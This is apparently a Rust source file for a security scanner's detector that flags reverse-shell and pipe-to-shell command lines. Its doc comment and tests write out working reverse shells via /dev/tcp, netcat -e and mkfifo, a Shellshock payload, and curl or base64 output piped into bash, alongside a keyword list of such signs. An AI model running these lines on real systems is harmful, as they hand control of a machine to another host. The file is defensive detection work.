//! Command lines that give a shell to another machine, or run what another machine sends.
//!
//! **What it finds.** Connections of bash to `/dev/tcp`, netcat with `-e` or through a named pipe, sockets of scripting
//! languages tied to a shell, function definitions that carry commands (Shellshock), and downloads or decoded text that
//! go straight into a shell.
//!
//! **Why it matters.** It is the whole of an intrusion in one line (CWE-78, CVE-2014-6271).
//!
//! **Example.** `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`
//!
//! Installers that documentation tells to pipe into a shell over HTTPS are only mentioned. To allow such lines, allow
//! this class for their field.

use super::setting::{Around, sure};
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use aho_corasick::AhoCorasick;
use palisade_model::Severity;
use std::sync::LazyLock;

pub(crate) static REMOTE_SHELL: Detector = Detector {
    class: "guard.injection.remote_shell",
    version: "1",
    severity: Severity::Critical,
    title: "Shell for another machine",
    remediation: "Do not run it; look for where it came from.",
    references: &["CWE-78", "CVE-2014-6271", "ATT&CK-T1059.004"],
    finds: Finds::Places { needles: &NEEDLES, confirm },
};

/// Bytes of a line that are read on either side.
const LINE_BYTES_MAX: usize = 260;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    if !may_be(&view.bytes()[at..]) {
        return Outcome::Clean { until: at + 1 };
    }
    let around = Around::new(view, at, LINE_BYTES_MAX, LINE_BYTES_MAX);
    let start = around.text[..around.at].rfind('\n').map_or(0, |end| end + 1);
    let end = around.text[around.at..].find('\n').map_or(around.text.len(), |length| around.at + length);
    let until = around.start + end;
    let Some((value, elsewhere)) = judge_line(&around.text[start..end]) else { return Outcome::Clean { until } };
    let span = around.start + start..until;
    let confidence = sure(view, &span, value, elsewhere, elsewhere.min(0.6));
    let hit = Hit::text(span, None, confidence, "A line that gives a shell to another machine, or runs what it sends.");
    Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
}

/// What the first bytes of a sign already tell: functions and pipes are in every program.
fn may_be(rest: &[u8]) -> bool {
    match rest[0] {
        b'(' => {
            let open = if rest[2] == b' ' { 4 } else { 3 };
            let body = rest[open..].trim_ascii_start();
            body.starts_with(b":") || body.starts_with(b"_;") || body.starts_with(b"ignored")
        }
        b'|' => {
            let word = rest[1..].trim_ascii_start();
            let length =
                word.iter().take(24).take_while(|byte| byte.is_ascii_alphanumeric() || b"/_-.".contains(byte)).count();
            word[..length].ends_with(b"sh")
        }
        _ => true,
    }
}

/// How often each sign is looked at in one line.
const PLACES_MAX: usize = 4;

/// The strongest answer among the places of one line.
fn judge_line(line: &str) -> Option<(f64, f64)> {
    let mut looked = [0; SIGN_COUNT];
    let places = SIGNS_AT_ONCE.find_overlapping_iter(line).filter(|found| {
        let looked = &mut looked[found.pattern().as_usize()];
        *looked += 1;
        *looked <= PLACES_MAX
    });
    let places = places.map(|found| found.start());
    places.filter_map(|at| judge(line, &line[..at], &line[at..])).max_by(|one, other| one.0.total_cmp(&other.0))
}

/// All signs, for one pass over a line.
static SIGNS_AT_ONCE: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::new(SIGNS).expect("two dozen short words are within every limit"));

/// What such lines have, in lower case; also the needles.
static SIGNS: [&str; SIGN_COUNT] = [
    "/dev/tcp/",
    "/dev/udp/",
    "-e /bin/",
    "-e sh",
    "-e bash",
    "-c /bin/",
    "-e cmd",
    "mkfifo",
    "pty.spawn(",
    "os.dup2(",
    "fsockopen(",
    "tcpsocket",
    "use socket",
    "exec:",
    "() {",
    "(){",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "|/bin/",
    "| /bin/",
];

const SIGN_COUNT: usize = 22;

static NEEDLES: [&[u8]; SIGN_COUNT] = {
    let mut needles: [&[u8]; SIGN_COUNT] = [b""; SIGN_COUNT];
    let mut at = 0;
    while at < SIGN_COUNT {
        needles[at] = SIGNS[at].as_bytes();
        at += 1;
    }
    needles
};

/// How sure `line` is an attack when it is a value, and elsewhere.
fn judge(line: &str, before: &str, here: &str) -> Option<(f64, f64)> {
    let shell =
        || ["/bin/sh", "/bin/bash", "bash -i", "sh -i", "cmd.exe", "/bin/zsh"].iter().any(|name| line.contains(name));
    let netcat =
        || [" nc ", "nc.", "ncat", "netcat", "nc -"].iter().any(|name| line.contains(name)) || line.starts_with("nc ");
    if let Some(rest) = here.strip_prefix("/dev/tcp/").or(here.strip_prefix("/dev/udp/")) {
        let tied = line.contains("<&")
            || line.contains(">&")
            || line.contains("<>")
            || before.trim_end().ends_with(['<', '>', '&']);
        return (rest.contains('/') && tied).then_some((0.96, 0.7));
    }
    if here.starts_with("-e ") || here.starts_with("-c /bin/") {
        return netcat().then_some((0.96, 0.7));
    }
    if here.starts_with("() {") || here.starts_with("(){") {
        return shellshock(before, here).then_some((0.96, 0.85));
    }
    if here.starts_with('|') {
        return piped(before, here);
    }
    if here.starts_with("exec:") {
        return (line.contains("socat") && line.contains("tcp")).then_some((0.95, 0.7));
    }
    let socket = ["socket", "connect(", "fsockopen("].iter().any(|name| line.contains(name));
    let runs = ["exec", "popen", "dup2(", "spawn(", "subprocess", "system("].iter().any(|name| line.contains(name));
    match here {
        _ if here.starts_with("mkfifo") => {
            (netcat() || line.contains("telnet") || line.contains("openssl")).then_some((0.95, 0.7))
        }
        _ if socket && runs && shell() => Some((0.95, 0.7)),
        _ => None,
    }
}

/// An empty function definition at the beginning of a value, with commands after it.
fn shellshock(before: &str, here: &str) -> bool {
    let Some((head, body)) = here.split_once('{') else { return false };
    let lead = before.trim_end();
    let begins = lead.is_empty() || lead.ends_with([':', '=', '"', '\'']);
    let body = body.trim_start();
    let empty =
        body.starts_with(":;") || body.starts_with("_;") || body.starts_with("ignored") || body.starts_with(": ;");
    head.len() <= 4
        && begins
        && empty
        && body
            .split_once('}')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with(';') || rest.trim_start().starts_with('>'))
}

/// A download or decoded text that goes into a shell.
fn piped(before: &str, here: &str) -> Option<(f64, f64)> {
    let word = here.trim_start_matches(['|', ' ']);
    let name = word.split([' ', ';', '"', '\'', '`', ')', '&', '|']).next().unwrap_or_default();
    let shell = matches!(name.rsplit('/').next(), Some("sh" | "bash" | "zsh" | "dash" | "ksh"));
    if !shell {
        return None;
    }
    let decoded = ["base64 -d", "base64 --d", "base64 -D", "xxd -r", "openssl enc -d", "rot13"]
        .iter()
        .any(|name| before.contains(name));
    if decoded {
        return Some((0.95, 0.7));
    }
    let loaded = ["curl ", "wget ", "fetch "].iter().find_map(|name| before.rfind(name))?;
    let address = &before[loaded..];
    let shady = !address.contains("https://")
        || address.contains("://1")
        || address.contains("-k ")
        || address.contains("--insecure");
    let smuggled = before[..loaded].trim_end().ends_with([';', '|', '&', '`', '(']);
    Some(match (shady, smuggled) {
        (true, true) => (0.92, 0.7),
        (true, false) => (0.82, 0.6),
        (false, _) => (0.5, 0.4),
    })
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn remote_shell() {
        check(
            "guard.injection.remote_shell",
            &[
                ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0..38),
                ("nc 10.0.0.1 4444 -e /bin/sh", 0..27),
                ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 >/tmp/f", 0..79),
                ("() { :;}; echo x", 0..16),
                ("echo aWQ= | base64 -d | sh", 0..26),
                ("curl http://198.51.100.7/x.sh | bash", 0..36),
            ],
            &[
                "cleanup() { rm -f \"$file\"; }",
                "cat script.sh | sh",
                "a | shift",
                "exec: cargo build",
                "The device /dev/tcp/ is part of bash.",
                "mkfifo /tmp/pipe",
            ],
        );
    }
}
